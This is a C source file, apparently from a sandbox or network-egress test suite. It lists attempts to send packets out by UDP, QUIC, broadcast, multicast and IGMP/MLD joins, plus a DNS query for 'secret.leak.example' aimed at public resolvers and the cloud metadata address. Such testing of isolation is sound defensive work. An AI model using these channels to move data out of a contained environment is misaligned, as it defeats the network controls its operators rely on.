/* Datagrams, and the membership of groups, which the kernel tells others by packets that no socket owns. */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <string.h>
#include <unistd.h>

static int datagram(struct to to) {
  int fd = made(to.address.ss_family, SOCK_DGRAM, 0), yes = 1;
  if (fd < 0) return -1;
  setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &yes, sizeof yes);
  return closed(fd, sent(fd, to));
}

static int udp4(void) { return datagram(outside4(20, 9999)); }
static int udp6(void) { return datagram(outside6(20, 9999)); }
static int udp_mapped(void) { return datagram(at("::ffff:203.0.113.21", 9999)); }
static int quic4(void) { return datagram(outside4(22, 443)); }
static int quic6(void) { return datagram(outside6(22, 443)); }
static int doq(void) { return datagram(outside4(23, 853)); }
static int broadcast(void) { return datagram(at("255.255.255.255", 67)); }
static int mdns(void) { return datagram(at("224.0.0.251", 5353)); }
static int multicast4(void) { return datagram(at("239.1.2.3", 9999)); }

static int multicast6(void) {
  struct to to = at("ff02::1", 9999);
  ((struct sockaddr_in6 *)&to.address)->sin6_scope_id = if_nametoindex(given("INTERFACE", "eth0"));
  return datagram(to);
}

/* A query for the addresses of a name that nobody declares, RFC 1035 section 4.1. */
static const char QUERY[] = "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04leak\x07""example\0\0\x01\0\x01";

static int dns(const char *server) {
  struct to to = at(server, 53);
  int fd = made(to.address.ss_family, SOCK_DGRAM, 0);
  if (fd < 0) return -1;
  return closed(fd, sendto(fd, QUERY, sizeof QUERY - 1, 0, (struct sockaddr *)&to.address, to.length) < 0 ? -1 : 0);
}

static int dns4(void) { return dns("8.8.8.8"); }
static int dns6(void) { return dns("2001:4860:4860::8888"); }
static int dns_metadata(void) { return dns("169.254.169.254"); }

/* The report says the group's address: a channel of some bits to whoever is on the link. */
static int igmp(void) {
  struct ip_mreqn group = {.imr_multiaddr.s_addr = inet_addr("239.1.2.4"), .imr_ifindex = if_nametoindex(given("INTERFACE", "eth0"))};
  int fd = made(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof group) < 0) return -1;
  usleep(300000);
  return closed(fd, 0);
}

static int mld(void) {
  struct ipv6_mreq group = {.ipv6mr_interface = if_nametoindex(given("INTERFACE", "eth0"))};
  int fd = made(AF_INET6, SOCK_DGRAM, 0);
  inet_pton(AF_INET6, "ff1e::4", &group.ipv6mr_multiaddr);
  if (fd < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &group, sizeof group) < 0) return -1;
  usleep(300000);
  return closed(fd, 0);
}

const struct attempt DATAGRAMS[] = {
    {"udp4", udp4}, {"udp6", udp6}, {"udp_mapped", udp_mapped}, {"quic4", quic4}, {"quic6", quic6}, {"doq", doq},
    {"broadcast", broadcast}, {"mdns", mdns}, {"multicast4", multicast4}, {"multicast6", multicast6},
    {"dns4", dns4}, {"dns6", dns6}, {"dns_metadata", dns_metadata}, {"igmp", igmp}, {"mld", mld},
    {NULL, NULL}};
